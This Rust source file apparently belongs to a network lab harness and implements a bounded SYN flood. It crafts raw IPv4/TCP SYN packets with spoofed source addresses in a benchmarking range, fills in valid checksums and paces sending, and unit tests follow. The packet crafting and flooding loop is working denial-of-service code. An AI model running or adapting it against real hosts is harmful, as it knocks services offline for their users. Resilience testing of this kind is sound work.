//! A SYN flood, as a flooding tool (hping3 `-S --rand-source`) sends it:
//! bare SYNs to one endpoint from a raw socket (`IPPROTO_RAW`, which implies
//! `IP_HDRINCL`: we write the IP header), each from a random source address in
//! 198.18.0.0/15 (RFC 2544's benchmarking range, outside the lab's subnets) and
//! a random port. The router blackholes that range (see `topo`), so the
//! server's SYN-ACKs vanish without an ICMP error or a RST that would free
//! the half-open entry: each one holds a slot of the listener's SYN queue
//! until its SYN-ACK retries run out.
//!
//! Bounded in count and time: `syns` SYNs spread evenly over `over`, sent in
//! bursts of one millisecond's worth.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::AsRawFd;
use std::time::{Duration, Instant};

use crate::error::{Context, Result};
use nix::sys::socket::{
    sendto, socket, AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, SockaddrIn,
};

/// The spoofed sources: 198.18.0.0/15.
pub const SPOOFED_NET: (Ipv4Addr, u8) = (Ipv4Addr::new(198, 18, 0, 0), 15);

/// The flood a case sends from the client namespace.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SynFlood {
    /// SYNs in all.
    pub syns: u32,
    /// Time they are spread over.
    pub over: Duration,
    /// Time from the flood's start to the legitimate client's start.
    pub client_after: Duration,
}

/// What was sent.
#[derive(Debug, Clone, Copy, Default, serde::Serialize)]
pub struct FloodReport {
    pub syns_sent: u64,
    /// `sendto` failures (e.g. ENOBUFS), not retried.
    pub send_errors: u64,
    pub seconds: f64,
}

/// Sends the flood to `target` from the calling thread's namespace.
pub fn send(target: SocketAddrV4, f: SynFlood) -> Result<FloodReport> {
    let fd = socket(
        AddressFamily::Inet,
        SockType::Raw,
        SockFlag::SOCK_CLOEXEC,
        SockProtocol::Raw,
    )
    .context("opening a raw socket for the SYN flood")?;
    let dest = SockaddrIn::from(SocketAddrV4::new(*target.ip(), 0));
    let mut rng = XorShift::seeded();
    let start = Instant::now();
    let ms = f.over.as_millis().max(1) as u64;
    let mut report = FloodReport::default();
    let mut sent = 0u64;
    for tick in 0..ms {
        // Evenly: by the end of millisecond `tick`, this many SYNs.
        let due = u64::from(f.syns) * (tick + 1) / ms;
        while sent < due {
            let src = spoofed(&mut rng);
            let pkt = syn_packet(src, rng.port(), target, rng.next() as u32);
            match sendto(fd.as_raw_fd(), &pkt, &dest, MsgFlags::empty()) {
                Ok(_) => report.syns_sent += 1,
                Err(_) => report.send_errors += 1,
            }
            sent += 1;
        }
        let next = start + Duration::from_millis(tick + 1);
        let now = Instant::now();
        if next > now {
            std::thread::sleep(next - now);
        }
    }
    report.seconds = start.elapsed().as_secs_f64();
    Ok(report)
}

/// A random address in [`SPOOFED_NET`].
fn spoofed(rng: &mut XorShift) -> Ipv4Addr {
    let (net, len) = SPOOFED_NET;
    let host = (rng.next() as u32) & (u32::MAX >> len);
    Ipv4Addr::from(u32::from(net) | host)
}

/// A 40-byte IPv4 + TCP SYN, no options (as hping3 sends), checksums filled
/// in (RFC 791 §3.1, RFC 9293 §3.1: the ones' complement sum, the TCP one
/// over the pseudo-header).
pub fn syn_packet(src: Ipv4Addr, sport: u16, dst: SocketAddrV4, seq: u32) -> [u8; 40] {
    let mut p = [0u8; 40];
    // IPv4 header.
    p[0] = 0x45; // version 4, 5 words
    p[2..4].copy_from_slice(&40u16.to_be_bytes()); // total length
    p[4..6].copy_from_slice(&((seq >> 16) as u16).to_be_bytes()); // identification
    p[8] = 64; // TTL
    p[9] = 6; // TCP
    p[12..16].copy_from_slice(&src.octets());
    p[16..20].copy_from_slice(&dst.ip().octets());
    let ip_sum = checksum(&[&p[..20]]);
    p[10..12].copy_from_slice(&ip_sum.to_be_bytes());
    // TCP header.
    let t = 20;
    p[t..t + 2].copy_from_slice(&sport.to_be_bytes());
    p[t + 2..t + 4].copy_from_slice(&dst.port().to_be_bytes());
    p[t + 4..t + 8].copy_from_slice(&seq.to_be_bytes());
    p[t + 12] = 5 << 4; // data offset: 5 words
    p[t + 13] = 0x02; // SYN
    p[t + 14..t + 16].copy_from_slice(&64240u16.to_be_bytes()); // window
    let mut pseudo = [0u8; 12];
    pseudo[..4].copy_from_slice(&src.octets());
    pseudo[4..8].copy_from_slice(&dst.ip().octets());
    pseudo[9] = 6;
    pseudo[10..12].copy_from_slice(&20u16.to_be_bytes());
    let tcp_sum = checksum(&[&pseudo, &p[t..]]);
    p[t + 16..t + 18].copy_from_slice(&tcp_sum.to_be_bytes());
    p
}

/// The Internet checksum of the concatenated parts (each of even length).
fn checksum(parts: &[&[u8]]) -> u16 {
    let mut sum: u32 = 0;
    for part in parts {
        for w in part.chunks(2) {
            let hi = u32::from(w[0]) << 8;
            let lo = w.get(1).copied().map_or(0, u32::from);
            sum += hi | lo;
        }
    }
    while sum >> 16 != 0 {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// xorshift64*: random enough for addresses and ports, no dependency.
struct XorShift(u64);

impl XorShift {
    fn seeded() -> XorShift {
        let t = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map_or(0, |d| d.as_nanos() as u64);
        XorShift((t ^ u64::from(std::process::id()) << 32) | 1)
    }

    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    /// An ephemeral-looking source port, 1024–65535.
    fn port(&mut self) -> u16 {
        1024 + (self.next() % (65536 - 1024)) as u16
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn syn_checksums_verify_and_fields_are_in_place() {
        let dst = SocketAddrV4::new(Ipv4Addr::new(10, 71, 2, 2), 8080);
        let p = syn_packet(Ipv4Addr::new(198, 19, 1, 2), 40000, dst, 0x1234_5678);
        // A header with its checksum in place sums to zero.
        assert_eq!(checksum(&[&p[..20]]), 0);
        let mut pseudo = [0u8; 12];
        pseudo[..4].copy_from_slice(&p[12..16]);
        pseudo[4..8].copy_from_slice(&p[16..20]);
        pseudo[9] = 6;
        pseudo[11] = 20;
        assert_eq!(checksum(&[&pseudo, &p[20..]]), 0);
        assert_eq!(&p[20..22], &40000u16.to_be_bytes());
        assert_eq!(&p[22..24], &8080u16.to_be_bytes());
        assert_eq!(p[33], 0x02);
        assert_eq!(&p[24..28], &0x1234_5678u32.to_be_bytes());
    }

    #[test]
    fn a_known_ip_checksum() {
        // The worked example of RFC 1071's usual illustration (Wikipedia's
        // IPv4 header checksum example): 0xb861.
        let h: [u8; 20] = [
            0x45, 0x00, 0x00, 0x73, 0x00, 0x00, 0x40, 0x00, 0x40, 0x11, 0x00, 0x00, 0xc0, 0xa8,
            0x00, 0x01, 0xc0, 0xa8, 0x00, 0xc7,
        ];
        assert_eq!(checksum(&[&h]), 0xb861);
    }

    #[test]
    fn spoofed_sources_stay_in_the_range() {
        let mut r = XorShift(7);
        for _ in 0..10_000 {
            let a = spoofed(&mut r).octets();
            assert_eq!(a[0], 198);
            assert!(a[1] == 18 || a[1] == 19, "{a:?}");
            assert!(r.port() >= 1024);
        }
    }
}
